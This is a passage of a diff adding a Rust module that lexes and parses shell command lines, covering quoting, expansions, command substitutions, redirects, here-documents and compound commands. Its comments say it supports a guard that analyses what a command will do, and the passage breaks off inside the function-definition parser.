@@ -0,0 +1,1294 @@
+use std::fmt;
+
+/// Byte range into the original command line.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Span {
+    pub start: usize,
+    pub end: usize,
+}
+
+impl Span {
+    fn new(start: usize, end: usize) -> Self {
+        Self { start, end }
+    }
+
+    fn join(self, other: Span) -> Span {
+        Span::new(self.start.min(other.start), self.end.max(other.end))
+    }
+}
+
+/// A shell word after quote removal. Expansions are kept verbatim in `text` (e.g. `$HOME/x`)
+/// and also listed separately so the guard can reason about what the shell will substitute.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Word {
+    pub text: String,
+    pub span: Span,
+    /// Unquoted `*`, `?` or `[` present: the shell will glob-expand this word.
+    pub glob: bool,
+    /// True if any part of the word was quoted.
+    pub quoted: bool,
+    /// `$NAME` / `${NAME}` expansions, in order.
+    pub variables: Vec<String>,
+    /// Unquoted variable expansions, which are subject to word splitting and globbing.
+    pub unquoted_variables: Vec<String>,
+    /// `$(...)` and backtick command substitutions, parsed.
+    pub substitutions: Vec<Script>,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum RedirectOp {
+    /// `<`
+    Read,
+    /// `>` or `>|`
+    Write,
+    /// `>>`
+    Append,
+    /// `&>` / `&>>`: stdout and stderr to the same file
+    WriteAll,
+    /// `>&` / `<&`
+    Duplicate,
+    /// `<<` / `<<-`
+    HereDoc,
+    /// `<<<`
+    HereString,
+    /// `<>`
+    ReadWrite,
+}
+
+#[derive(Debug, Clone, PartialEq)]
+pub struct Redirect {
+    pub fd: Option<u32>,
+    pub op: RedirectOp,
+    pub target: Word,
+    /// A `<<` here-document's lines, which the command reads as its input.
+    pub body: Option<String>,
+    pub span: Span,
+}
+
+impl Redirect {
+    /// Whether this redirection creates or modifies the file named by `target`.
+    pub fn writes_file(&self) -> bool {
+        matches!(self.op, RedirectOp::Write | RedirectOp::Append | RedirectOp::WriteAll | RedirectOp::ReadWrite)
+    }
+}
+
+#[derive(Debug, Clone, PartialEq)]
+pub struct SimpleCommand {
+    pub assignments: Vec<(String, Word)>,
+    pub argv: Vec<Word>,
+    pub redirects: Vec<Redirect>,
+    pub span: Span,
+}
+
+impl SimpleCommand {
+    pub fn program(&self) -> Option<&str> {
+        self.argv.first().map(|w| w.text.as_str())
+    }
+
+    /// The program's file name, so `/usr/bin/rm` and `rm` compare equal.
+    pub fn program_name(&self) -> Option<&str> {
+        self.program().map(|p| p.rsplit('/').next().unwrap_or(p))
+    }
+
+    pub fn args(&self) -> &[Word] {
+        self.argv.get(1..).unwrap_or(&[])
+    }
+}
+
+/// Which reserved-word construct a `Command::Compound` is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum CompoundKind {
+    If,
+    While,
+    Until,
+    For,
+    Select,
+    Case,
+    /// `name() { ...; }` or `function name { ...; }`
+    Function,
+}
+
+impl fmt::Display for CompoundKind {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let name = match self {
+            CompoundKind::If => "if",
+            CompoundKind::While => "while",
+            CompoundKind::Until => "until",
+            CompoundKind::For => "for",
+            CompoundKind::Select => "select",
+            CompoundKind::Case => "case",
+            CompoundKind::Function => "function",
+        };
+        write!(f, "{}", name)
+    }
+}
+
+#[derive(Debug, Clone, PartialEq)]
+pub enum Command {
+    Simple(SimpleCommand),
+    /// `( ... )`
+    Subshell { body: Script, redirects: Vec<Redirect>, span: Span },
+    /// `{ ...; }`
+    Group { body: Script, redirects: Vec<Redirect>, span: Span },
+    /// `if`, `while`, `until`, `for`, `select`, `case` and function definitions. `bodies` holds
+    /// every condition and body list in source order; `words` the ones that are not commands:
+    /// a loop's variable and list, a case's subject and patterns, a function's name.
+    Compound { kind: CompoundKind, words: Vec<Word>, bodies: Vec<Script>, redirects: Vec<Redirect>, span: Span },
+}
+
+impl Command {
+    pub fn span(&self) -> Span {
+        match self {
+            Command::Simple(c) => c.span,
+            Command::Subshell { span, .. } | Command::Group { span, .. } | Command::Compound { span, .. } => *span,
+        }
+    }
+}
+
+#[derive(Debug, Clone, PartialEq)]
+pub struct Pipeline {
+    pub negated: bool,
+    pub commands: Vec<Command>,
+    pub span: Span,
+}
+
+/// The operator that follows a pipeline in a list.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Connector {
+    And,
+    Or,
+    Sequence,
+    Background,
+}
+
+#[derive(Debug, Clone, PartialEq)]
+pub struct Item {
+    pub pipeline: Pipeline,
+    pub connector: Option<Connector>,
+}
+
+/// A parsed command line.
+#[derive(Debug, Clone, PartialEq, Default)]
+pub struct Script {
+    pub items: Vec<Item>,
+}
+
+impl Script {
+    /// Every simple command in the script, including those nested in subshells, groups
+    /// and command substitutions, in source order.
+    pub fn simple_commands(&self) -> Vec<&SimpleCommand> {
+        let mut out = vec![];
+        self.collect_simple(&mut out);
+        out
+    }
+
+    fn collect_simple<'a>(&'a self, out: &mut Vec<&'a SimpleCommand>) {
+        for item in &self.items {
+            for command in &item.pipeline.commands {
+                match command {
+                    Command::Simple(c) => {
+                        out.push(c);
+                        let words = c.argv.iter()
+                            .chain(c.assignments.iter().map(|(_, w)| w))
+                            .chain(c.redirects.iter().map(|r| &r.target));
+                        for word in words {
+                            for sub in &word.substitutions {
+                                sub.collect_simple(out);
+                            }
+                        }
+                    },
+                    Command::Subshell { body, .. } | Command::Group { body, .. } => body.collect_simple(out),
+                    Command::Compound { words, bodies, .. } => {
+                        for sub in words.iter().flat_map(|w| &w.substitutions) {
+                            sub.collect_simple(out);
+                        }
+                        for body in bodies {
+                            body.collect_simple(out);
+                        }
+                    },
+                }
+            }
+        }
+    }
+
+    /// Every pipeline in the script, including nested ones.
+    pub fn pipelines(&self) -> Vec<&Pipeline> {
+        let mut out = vec![];
+        self.collect_pipelines(&mut out);
+        out
+    }
+
+    fn collect_pipelines<'a>(&'a self, out: &mut Vec<&'a Pipeline>) {
+        for item in &self.items {
+            out.push(&item.pipeline);
+            for command in &item.pipeline.commands {
+                match command {
+                    Command::Simple(c) => {
+                        for word in c.argv.iter().chain(c.assignments.iter().map(|(_, w)| w)) {
+                            for sub in &word.substitutions {
+                                sub.collect_pipelines(out);
+                            }
+                        }
+                    },
+                    Command::Subshell { body, .. } | Command::Group { body, .. } => body.collect_pipelines(out),
+                    Command::Compound { words, bodies, .. } => {
+                        for sub in words.iter().flat_map(|w| &w.substitutions) {
+                            sub.collect_pipelines(out);
+                        }
+                        for body in bodies {
+                            body.collect_pipelines(out);
+                        }
+                    },
+                }
+            }
+        }
+    }
+
+    /// Every redirection in the script, including those on subshells, groups and compound commands.
+    pub fn redirects(&self) -> Vec<&Redirect> {
+        let mut out = vec![];
+        for pipeline in self.pipelines() {
+            for command in &pipeline.commands {
+                match command {
+                    Command::Simple(c) => out.extend(c.redirects.iter()),
+                    Command::Subshell { redirects, .. } | Command::Group { redirects, .. } | Command::Compound { redirects, .. } => {
+                        out.extend(redirects.iter())
+                    },
+                }
+            }
+        }
+        out
+    }
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ParseError {
+    pub message: String,
+    pub offset: usize,
+}
+
+impl fmt::Display for ParseError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "{} at byte {}", self.message, self.offset)
+    }
+}
+
+impl std::error::Error for ParseError {}
+
+pub fn parse(src: &str) -> Result<Script, ParseError> {
+    parse_range(src, 0, src.len())
+}
+
+fn parse_range(src: &str, start: usize, end: usize) -> Result<Script, ParseError> {
+    let (tokens, heredocs) = Lexer::new(src, start, end).tokens()?;
+    let mut parser = Parser { tokens, heredocs: heredocs.into(), pos: 0, end };
+    let script = parser.script()?;
+    if let Some(token) = parser.peek() {
+        return Err(ParseError { message: format!("Unexpected {}", token.describe()), offset: token.span().start });
+    }
+    Ok(script)
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Op {
+    AndIf,
+    OrIf,
+    Pipe,
+    Semi,
+    /// `;;`, `;&` or `;;&`, ending a `case` clause
+    DSemi,
+    Amp,
+    LParen,
+    RParen,
+    Newline,
+}
+
+#[derive(Debug)]
+enum Token {
+    Word(Word),
+    Op(Op, Span),
+    Redirect { fd: Option<u32>, op: RedirectOp, span: Span },
+}
+
+impl Token {
+    fn span(&self) -> Span {
+        match self {
+            Token::Word(w) => w.span,
+            Token::Op(_, span) | Token::Redirect { span, .. } => *span,
+        }
+    }
+
+    fn describe(&self) -> String {
+        match self {
+            Token::Word(w) => format!("word '{}'", w.text),
+            Token::Op(op, _) => format!("operator {:?}", op),
+            Token::Redirect { .. } => "redirection".to_string(),
+        }
+    }
+}
+
+struct Lexer<'a> {
+    src: &'a str,
+    pos: usize,
+    end: usize,
+    pending_heredocs: Vec<PendingHeredoc>,
+    heredocs: Vec<(String, Vec<Script>)>,
+}
+
+// A `<<` seen on the current line, whose body starts on the next one
+struct PendingHeredoc {
+    delimiter: String,
+    strip_tabs: bool,
+    // An unquoted delimiter means `$(...)` in the body runs
+    expands: bool,
+}
+
+impl<'a> Lexer<'a> {
+    fn new(src: &'a str, start: usize, end: usize) -> Self {
+        Self { src, pos: start, end, pending_heredocs: vec![], heredocs: vec![] }
+    }
+
+    fn peek(&self) -> Option<char> {
+        self.src[self.pos..self.end].chars().next()
+    }
+
+    fn peek_at(&self, n: usize) -> Option<char> {
+        self.src[self.pos..self.end].chars().nth(n)
+    }
+
+    fn bump(&mut self) -> Option<char> {
+        let c = self.peek()?;
+        self.pos += c.len_utf8();
+        Some(c)
+    }
+
+    fn rest(&self) -> &'a str {
+        &self.src[self.pos..self.end]
+    }
+
+    fn error(&self, message: &str) -> ParseError {
+        ParseError { message: message.to_string(), offset: self.pos }
+    }
+
+    // The tokens, and the here-document bodies with their substitutions in the order their `<<` appear
+    fn tokens(mut self) -> Result<(Vec<Token>, Vec<(String, Vec<Script>)>), ParseError> {
+        let mut tokens = vec![];
+        let mut expect_heredoc_word = None;
+        while let Some(c) = self.peek() {
+            let start = self.pos;
+            match c {
+                ' ' | '\t' | '\r' => { self.bump(); },
+                '\\' if self.peek_at(1) == Some('\n') => { self.bump(); self.bump(); },
+                '#' => {
+                    while self.peek().is_some_and(|c| c != '\n') {
+                        self.bump();
+                    }
+                },
+                '\n' => {
+                    self.bump();
+                    tokens.push(Token::Op(Op::Newline, Span::new(start, self.pos)));
+                    self.heredoc_bodies()?;
+                },
+                ';' => {
+                    self.bump();
+                    let op = match self.peek() {
+                        Some(';') => {
+                            self.bump();
+                            if self.peek() == Some('&') {
+                                self.bump();
+                            }
+                            Op::DSemi
+                        },
+                        Some('&') => {
+                            self.bump();
+                            Op::DSemi
+                        },
+                        _ => Op::Semi,
+                    };
+                    tokens.push(Token::Op(op, Span::new(start, self.pos)));
+                },
+                '(' => { self.bump(); tokens.push(Token::Op(Op::LParen, Span::new(start, self.pos))); },
+                ')' => { self.bump(); tokens.push(Token::Op(Op::RParen, Span::new(start, self.pos))); },
+                '|' => {
+                    self.bump();
+                    let op = if self.peek() == Some('|') { self.bump(); Op::OrIf } else { Op::Pipe };
+                    tokens.push(Token::Op(op, Span::new(start, self.pos)));
+                },
+                '&' if self.rest().starts_with("&>") => {
+                    self.pos += 2;
+                    if self.peek() == Some('>') {
+                        self.bump();
+                    }
+                    tokens.push(Token::Redirect { fd: None, op: RedirectOp::WriteAll, span: Span::new(start, self.pos) });
+                },
+                '&' => {
+                    self.bump();
+                    let op = if self.peek() == Some('&') { self.bump(); Op::AndIf } else { Op::Amp };
+                    tokens.push(Token::Op(op, Span::new(start, self.pos)));
+                },
+                _ => {
+                    if let Some(token) = self.redirect()? {
+                        if let Token::Redirect { op: RedirectOp::HereDoc, .. } = token {
+                            expect_heredoc_word = Some(self.rest().starts_with('-'));
+                            if self.peek() == Some('-') {
+                                self.bump();
+                            }
+                        }
+                        tokens.push(token);
+                        continue;
+                    }
+                    let word = self.word()?;
+                    if let Some(strip_tabs) = expect_heredoc_word.take() {
+                        self.pending_heredocs.push(PendingHeredoc { delimiter: word.text.clone(), strip_tabs, expands: !word.quoted });
+                    }
+                    tokens.push(Token::Word(word));
+                },
+            }
+        }
+        Ok((tokens, self.heredocs))
+    }
+
+    fn redirect(&mut self) -> Result<Option<Token>, ParseError> {
+        let start = self.pos;
+        let digits: String = self.rest().chars().take_while(|c| c.is_ascii_digit()).collect();
+        let after = &self.rest()[digits.len()..];
+        let (op, len) = if after.starts_with("<<<") {
+            (RedirectOp::HereString, 3)
+        } else if after.starts_with("<<") {
+            (RedirectOp::HereDoc, 2)
+        } else if after.starts_with("<&") || after.starts_with(">&") {
+            (RedirectOp::Duplicate, 2)
+        } else if after.starts_with("<>") {
+            (RedirectOp::ReadWrite, 2)
+        } else if after.starts_with(">>") {
+            (RedirectOp::Append, 2)
+        } else if after.starts_with(">|") {
+            (RedirectOp::Write, 2)
+        } else if after.starts_with('>') {
+            (RedirectOp::Write, 1)
+        } else if after.starts_with('<') {
+            (RedirectOp::Read, 1)
+        } else {
+            return Ok(None);
+        };
+        let fd = if digits.is_empty() {
+            None
+        } else {
+            Some(digits.parse().map_err(|_| self.error("File descriptor out of range"))?)
+        };
+        self.pos += digits.len() + len;
+        Ok(Some(Token::Redirect { fd, op, span: Span::new(start, self.pos) }))
+    }
+
+    fn heredoc_bodies(&mut self) -> Result<(), ParseError> {
+        for PendingHeredoc { delimiter, strip_tabs, expands } in std::mem::take(&mut self.pending_heredocs) {
+            let mut body = String::new();
+            let body_start = self.pos;
+            let mut body_end = self.pos;
+            loop {
+                if self.pos >= self.end {
+                    return Err(self.error(&format!("Unterminated here-document (expected '{}')", delimiter)));
+                }
+                let line_end = self.rest().find('\n').map(|i| self.pos + i).unwrap_or(self.end);
+                let line = &self.src[self.pos..line_end];
+                let line = if strip_tabs { line.trim_start_matches('\t') } else { line };
+                self.pos = (line_end + 1).min(self.end);
+                if line == delimiter {
+                    break;
+                }
+                body.push_str(line);
+                body.push('\n');
+                body_end = self.pos;
+            }
+            let substitutions = if expands { Lexer::new(self.src, body_start, body_end).heredoc_substitutions()? } else { vec![] };
+            self.heredocs.push((body, substitutions));
+        }
+        Ok(())
+    }
+
+    // Quotes are literal in a here-document body, but `$` and backticks still expand
+    fn heredoc_substitutions(mut self) -> Result<Vec<Script>, ParseError> {
+        let start = self.pos;
+        let mut word = Word { text: String::new(), span: Span::new(start, start), glob: false, quoted: true, variables: vec![], unquoted_variables: vec![], substitutions: vec![] };
+        while let Some(c) = self.peek() {
+            match c {
+                '\\' => {
+                    self.bump();
+                    self.bump();
+                },
+                '$' => self.dollar(&mut word, true)?,
+                '`' => self.backtick(&mut word)?,
+                _ => {
+                    self.bump();
+                },
+            }
+        }
+        Ok(word.substitutions)
+    }
+
+    fn word(&mut self) -> Result<Word, ParseError> {
+        let start = self.pos;
+        let mut word = Word {
+            text: String::new(),
+            span: Span::new(start, start),
+            glob: false,
+            quoted: false,
+            variables: vec![],
+            unquoted_variables: vec![],
+            substitutions: vec![],
+        };
+        while let Some(c) = self.peek() {
+            match c {
+                ' ' | '\t' | '\r' | '\n' | ';' | '&' | '|' | '(' | ')' | '<' | '>' => break,
+                '\'' => {
+                    self.bump();
+                    word.quoted = true;
+                    loop {
+                        match self.bump() {
+                            Some('\'') => break,
+                            Some(c) => word.text.push(c),
+                            None => return Err(ParseError { message: "Unterminated single quote".to_string(), offset: start }),
+                        }
+                    }
+                },
+                '"' => {
+                    self.bump();
+                    word.quoted = true;
+                    self.double_quoted(&mut word, start)?;
+                },
+                '\\' => {
+                    self.bump();
+                    word.quoted = true;
+                    match self.bump() {
+                        Some('\n') | None => {},
+                        Some(c) => word.text.push(c),
+                    }
+                },
+                '$' => self.dollar(&mut word, false)?,
+                '`' => self.backtick(&mut word)?,
+                '*' | '?' | '[' => {
+                    self.bump();
+                    word.glob = true;
+                    word.text.push(c);
+                },
+                _ => {
+                    self.bump();
+                    word.text.push(c);
+                },
+            }
+        }
+        word.span = Span::new(start, self.pos);
+        Ok(word)
+    }
+
+    fn double_quoted(&mut self, word: &mut Word, start: usize) -> Result<(), ParseError> {
+        loop {
+            match self.peek() {
+                Some('"') => {
+                    self.bump();
+                    return Ok(());
+                },
+                Some('\\') => {
+                    self.bump();
+                    match self.bump() {
+                        Some(c @ ('$' | '`' | '"' | '\\')) => word.text.push(c),
+                        Some('\n') => {},
+                        Some(c) => {
+                            word.text.push('\\');
+                            word.text.push(c);
+                        },
+                        None => break,
+                    }
+                },
+                Some('$') => self.dollar(word, true)?,
+                Some('`') => self.backtick(word)?,
+                Some(c) => {
+                    self.bump();
+                    word.text.push(c);
+                },
+                None => break,
+            }
+        }
+        Err(ParseError { message: "Unterminated double quote".to_string(), offset: start })
+    }
+
+    fn dollar(&mut self, word: &mut Word, quoted: bool) -> Result<(), ParseError> {
+        let start = self.pos;
+        self.bump();
+        match self.peek() {
+            Some('(') if self.peek_at(1) == Some('(') => {
+                // Arithmetic expansion still runs any command substitutions inside it
+                let close = self.matching_close(start + 1)?;
+                Lexer::new(self.src, start + 3, close - 1).expansions(word, quoted, None, start)?;
+                self.pos = close + 1;
+            },
+            Some('(') => {
+                let open = self.pos;
+                let close = self.matching_close(open)?;
+                word.substitutions.push(parse_range(self.src, open + 1, close)?);
+                self.pos = close + 1;
+            },
+            Some('{') => {
+                self.bump();
+                let name: String = self.rest().trim_start_matches('#').chars().take_while(|c| c.is_alphanumeric() || *c == '_').collect();
+                self.record_variable(word, name, quoted);
+                // Whatever follows the name is expanded too: `${x:-$(cmd)}` runs cmd
+                self.expansions(word, quoted, Some('}'), start)?;
+            },
+            Some(c) if c.is_ascii_alphabetic() || c == '_' => {
+                let name: String = self.rest().chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '_').collect();
+                self.pos += name.len();
+                self.record_variable(word, name, quoted);
+            },
+            Some(c) if c.is_ascii_digit() || "?@*#$!-".contains(c) => {
+                self.bump();
+                self.record_variable(word, c.to_string(), quoted);
+            },
+            // A lone `$` is literal
+            _ => {},
+        }
+        word.text.push_str(&self.src[start..self.pos]);
+        Ok(())
+    }
+
+    // Collects the variables and command substitutions up to `closer`, which is consumed, or
+    // to the end of the range. The text itself is left to the caller
+    fn expansions(&mut self, word: &mut Word, quoted: bool, closer: Option<char>, start: usize) -> Result<(), ParseError> {
+        let mut inner = Word { text: String::new(), span: Span::new(start, start), glob: false, quoted, variables: vec![], unquoted_variables: vec![], substitutions: vec![] };
+        loop {
+            match self.peek() {
+                Some(c) if Some(c) == closer => {
+                    self.bump();
+                    break;
+                },
+                Some('\\') => {
+                    self.bump();
+                    self.bump();
+                },
+                Some('\'') if !quoted => {
+                    self.bump();
+                    while self.bump().is_some_and(|c| c != '\'') {}
+                },
+                Some('"') => {
+                    self.bump();
+                    self.double_quoted(&mut inner, start)?;
+                },
+                Some('$') => self.dollar(&mut inner, quoted)?,
+                Some('`') => self.backtick(&mut inner)?,
+                Some(_) => {
+                    self.bump();
+                },
+                None if closer.is_none() => break,
+                None => return Err(ParseError { message: "Unterminated ${".to_string(), offset: start }),
+            }
+        }
+        word.variables.extend(inner.variables);
+        word.unquoted_variables.extend(inner.unquoted_variables);
+        word.substitutions.extend(inner.substitutions);
+        Ok(())
+    }
+
+    fn record_variable(&self, word: &mut Word, name: String, quoted: bool) {
+        if !quoted {
+            word.unquoted_variables.push(name.clone());
+        }
+        word.variables.push(name);
+    }
+
+    fn backtick(&mut self, word: &mut Word) -> Result<(), ParseError> {
+        let start = self.pos;
+        self.bump();
+        let body_start = self.pos;
+        loop {
+            match self.bump() {
+                Some('\\') => { self.bump(); },
+                Some('`') => break,
+                Some(_) => {},
+                None => return Err(ParseError { message: "Unterminated backtick".to_string(), offset: start }),
+            }
+        }
+        word.substitutions.push(parse_range(self.src, body_start, self.pos - 1)?);
+        word.text.push_str(&self.src[start..self.pos]);
+        Ok(())
+    }
+
+    // Finds the `)` closing the `(` at `open`, skipping quoted text and nested parentheses
+    fn matching_close(&self, open: usize) -> Result<usize, ParseError> {
+        let mut depth = 0usize;
+        let mut quote: Option<char> = None;
+        let mut escaped = false;
+        for (i, c) in self.src[open..self.end].char_indices() {
+            let at = open + i;
+            if escaped {
+                escaped = false;
+                continue;
+            }
+            match (quote, c) {
+                (_, '\\') if quote != Some('\'') => escaped = true,
+                (Some(q), c) if c == q => quote = None,
+                (Some(_), _) => {},
+                (None, '\'' | '"') => quote = Some(c),
+                (None, '(') => depth += 1,
+                (None, ')') => {
+                    depth -= 1;
+                    if depth == 0 {
+                        return Ok(at);
+                    }
+                },
+                _ => {},
+            }
+        }
+        Err(ParseError { message: "Unterminated $(".to_string(), offset: open })
+    }
+}
+
+// Reserved words that close a compound command's lists. Like the shell, they only count in
+// command position, so `echo done` is an ordinary argument
+const CLOSING_WORDS: &[&str] = &["then", "elif", "else", "fi", "do", "done", "esac", "}"];
+
+struct Parser {
+    tokens: Vec<Token>,
+    heredocs: std::collections::VecDeque<(String, Vec<Script>)>,
+    pos: usize,
+    end: usize,
+}
+
+impl Parser {
+    fn peek(&self) -> Option<&Token> {
+        self.tokens.get(self.pos)
+    }
+
+    fn peek_op(&self) -> Option<Op> {
+        match self.peek() {
+            Some(Token::Op(op, _)) => Some(*op),
+            _ => None,
+        }
+    }
+
+    fn peek_word(&self, text: &str) -> bool {
+        matches!(self.peek(), Some(Token::Word(w)) if w.text == text && !w.quoted)
+    }
+
+    fn offset(&self) -> usize {
+        self.peek().map(|t| t.span().start).unwrap_or(self.end)
+    }
+
+    fn skip_newlines(&mut self) {
+        while self.peek_op() == Some(Op::Newline) {
+            self.pos += 1;
+        }
+    }
+
+    fn expect_word(&mut self, text: &str) -> Result<Span, ParseError> {
+        match self.peek() {
+            Some(Token::Word(w)) if w.text == text && !w.quoted => {
+                let span = w.span;
+                self.pos += 1;
+                Ok(span)
+            },
+            _ => Err(ParseError { message: format!("Expected '{}'", text), offset: self.offset() }),
+        }
+    }
+
+    fn take_word(&mut self, expected: &str) -> Result<Word, ParseError> {
+        match self.peek() {
+            Some(Token::Word(w)) => {
+                let word = w.clone();
+                self.pos += 1;
+                Ok(word)
+            },
+            _ => Err(ParseError { message: expected.to_string(), offset: self.offset() }),
+        }
+    }
+
+    // A list ends at the end of input or at whatever closes the construct around it; the caller
+    // decides whether that closer is legal there
+    fn script(&mut self) -> Result<Script, ParseError> {
+        let mut items = vec![];
+        loop {
+            while matches!(self.peek_op(), Some(Op::Newline | Op::Semi)) {
+                self.pos += 1;
+            }
+            match self.peek() {
+                None | Some(Token::Op(Op::RParen | Op::DSemi, _)) => break,
+                _ if CLOSING_WORDS.iter().any(|w| self.peek_word(w)) => break,
+                _ => {},
+            }
+            items.extend(self.and_or()?);
+            match self.peek_op() {
+                Some(Op::Semi) | Some(Op::Newline) => {
+                    self.pos += 1;
+                    if let Some(last) = items.last_mut() {
+                        last.connector = Some(Connector::Sequence);
+                    }
+                },
+                Some(Op::Amp) => {
+                    self.pos += 1;
+                    if let Some(last) = items.last_mut() {
+                        last.connector = Some(Connector::Background);
+                    }
+                },
+                _ => break,
+            }
+        }
+        Ok(Script { items })
+    }
+
+    fn and_or(&mut self) -> Result<Vec<Item>, ParseError> {
+        let mut items = vec![Item { pipeline: self.pipeline()?, connector: None }];
+        loop {
+            let connector = match self.peek_op() {
+                Some(Op::AndIf) => Connector::And,
+                Some(Op::OrIf) => Connector::Or,
+                _ => break,
+            };
+            self.pos += 1;
+            self.skip_newlines();
+            items.last_mut().expect("at least one pipeline").connector = Some(connector);
+            items.push(Item { pipeline: self.pipeline()?, connector: None });
+        }
+        Ok(items)
+    }
+
+    fn pipeline(&mut self) -> Result<Pipeline, ParseError> {
+        let negated = self.peek_word("!");
+        if negated {
+            self.pos += 1;
+        }
+        let mut commands = vec![self.command()?];
+        while self.peek_op() == Some(Op::Pipe) {
+            self.pos += 1;
+            self.skip_newlines();
+            commands.push(self.command()?);
+        }
+        let span = commands.iter().map(Command::span).reduce(Span::join).expect("at least one command");
+        Ok(Pipeline { negated, commands, span })
+    }
+
+    fn command(&mut self) -> Result<Command, ParseError> {
+        let start = self.offset();
+        let keyword = match self.peek() {
+            Some(Token::Word(w)) if !w.quoted => w.text.clone(),
+            _ => String::new(),
+        };
+        match keyword.as_str() {
+            "if" => return self.if_clause(),
+            "while" | "until" => return self.loop_clause(),
+            "for" | "select" => return self.for_clause(),
+            "case" => return self.case_clause(),
+            "function" => return self.function_definition(),
+            _ => {},
+        }
+        let defines_function = matches!(
+            (self.tokens.get(self.pos), self.tokens.get(self.pos + 1), self.tokens.get(self.pos + 2)),
+            (Some(Token::Word(w)), Some(Token::Op(Op::LParen, _)), Some(Token::Op(Op::RParen, _))) if !w.quoted
+        );
+        if defines_function {
+            return self.function_definition();
+        }
+        if let Some(Token::Op(Op::LParen, _)) = self.peek() {
+            self.pos += 1;
+            let body = self.script()?;
+            match self.peek() {
+                Some(Token::Op(Op::RParen, span)) => {
+                    let end = span.end;
+                    self.pos += 1;
+                    let (redirects, end) = self.trailing_redirects(end)?;
+                    return Ok(Command::Subshell { body, redirects, span: Span::new(start, end) });
+                },
+                _ => return Err(ParseError { message: "Expected ')'".to_string(), offset: self.offset() }),
+            }
+        }
+        if self.peek_word("{") {
+            self.pos += 1;
+            let body = self.script()?;
+            if !self.peek_word("}") {
+                return Err(ParseError { message: "Expected '}'".to_string(), offset: self.offset() });
+            }
+            let end = self.peek().map(|t| t.span().end).unwrap_or(self.end);
+            self.pos += 1;
+            let (redirects, end) = self.trailing_redirects(end)?;
+            return Ok(Command::Group { body, redirects, span: Span::new(start, end) });
+        }
+        self.simple_command()
+    }
+
+    fn compound(&mut self, kind: CompoundKind, start: usize, words: Vec<Word>, bodies: Vec<Script>, end: usize) -> Result<Command, ParseError> {
+        let (redirects, end) = self.trailing_redirects(end)?;
+        Ok(Command::Compound { kind, words, bodies, redirects, span: Span::new(start, end) })
+    }
+
+    fn if_clause(&mut self) -> Result<Command, ParseError> {
+        let start = self.expect_word("if")?.start;
+        let mut bodies = vec![];
+        loop {
+            bodies.push(self.script()?);
+            self.expect_word("then")?;
+            bodies.push(self.script()?);
+            if !self.peek_word("elif") {
+                break;
+            }
+            self.pos += 1;
+        }
+        if self.peek_word("else") {
+            self.pos += 1;
+            bodies.push(self.script()?);
+        }
+        let end = self.expect_word("fi")?.end;
+        self.compound(CompoundKind::If, start, vec![], bodies, end)
+    }
+
+    fn loop_clause(&mut self) -> Result<Command, ParseError> {
+        let kind = if self.peek_word("while") { CompoundKind::While } else { CompoundKind::Until };
+        let start = self.offset();
+        self.pos += 1;
+        let condition = self.script()?;
+        let (body, end) = self.do_group()?;
+        self.compound(kind, start, vec![], vec![condition, body], end)
+    }
+
+    fn for_clause(&mut self) -> Result<Command, ParseError> {
+        let kind = if self.peek_word("for") { CompoundKind::For } else { CompoundKind::Select };
+        let start = self.offset();
+        self.pos += 1;
+        let mut words = vec![];
+        if self.peek_op() == Some(Op::LParen) {
+            self.skip_arithmetic()?;
+        } else {
+            words.push(self.take_word("Expected a loop variable")?);
+            self.skip_newlines();
+            if self.peek_word("in") {
+                self.pos += 1;
+                while let Some(Token::Word(w)) = self.peek() {
+                    words.push(w.clone());
+                    self.pos += 1;
+                }
+            }
+        }
+        while matches!(self.peek_op(), Some(Op::Newline | Op::Semi)) {
+            self.pos += 1;
+        }
+        let (body, end) = self.do_group()?;
+        self.compound(kind, start, words, vec![body], end)
+    }
+
+    // `for ((init; test; step))`: arithmetic only, so the header is skipped rather than parsed
+    fn skip_arithmetic(&mut self) -> Result<(), ParseError> {
+        let start = self.offset();
+        let mut depth = 0usize;
+        while let Some(token) = self.peek() {
+            match token {
+                Token::Op(Op::LParen, _) => depth += 1,
+                Token::Op(Op::RParen, _) => {
+                    depth -= 1;
+                    if depth == 0 {
+                        self.pos += 1;
+                        return Ok(());
+                    }
+                },
+                _ => {},
+            }
+            self.pos += 1;
+        }
+        Err(ParseError { message: "Unterminated arithmetic for loop".to_string(), offset: start })
+    }
+
+    fn do_group(&mut self) -> Result<(Script, usize), ParseError> {
+        self.expect_word("do")?;
+        let body = self.script()?;
+        let end = self.expect_word("done")?.end;
+        Ok((body, end))
+    }
+
+    fn case_clause(&mut self) -> Result<Command, ParseError> {
+        let start = self.expect_word("case")?.start;
+        let mut words = vec![self.take_word("Expected a word after 'case'")?];
+        self.skip_newlines();
+        self.expect_word("in")?;
+        let mut bodies = vec![];
+        loop {
+            self.skip_newlines();
+            if self.peek_word("esac") {
+                break;
+            }
+            if self.peek_op() == Some(Op::LParen) {
+                self.pos += 1;
+            }
+            words.push(self.take_word("Expected a case pattern")?);
+            while self.peek_op() == Some(Op::Pipe) {
+                self.pos += 1;
+                words.push(self.take_word("Expected a case pattern")?);
+            }
+            if self.peek_op() != Some(Op::RParen) {
+                return Err(ParseError { message: "Expected ')' after case pattern".to_string(), offset: self.offset() });
+            }
+            self.pos += 1;
+            bodies.push(self.script()?);
+            if self.peek_op() != Some(Op::DSemi) {
+                break;
+            }
+            self.pos += 1;
+        }
+        let end = self.expect_word("esac")?.end;
+        self.compound(CompoundKind::Case, start, words, bodies, end)
+    }
+
+    // The body is analysed as if it ran, since the definition exists to be called
+    fn function_definition(&mut self) -> Result<Command, ParseError> {
+        let start = self.offset();
+        if self.peek_word("function") {
+            self.pos += 1;
+        }
+        let name = self.take_word("Expected a function name")?;
+        if self.peek_op() == Some(Op::LParen) {
+            self.pos += 1;
+            if self.peek_op() != Some(Op::RParen) {
+                return Err(ParseError { message: "Expected ')' in function definition".to_string(), offset: self.offset() });
+            }
+            self.pos += 1;
+        }
+        self.skip_newlines();
+        let body = self.command()?;
+        let span = body.span();
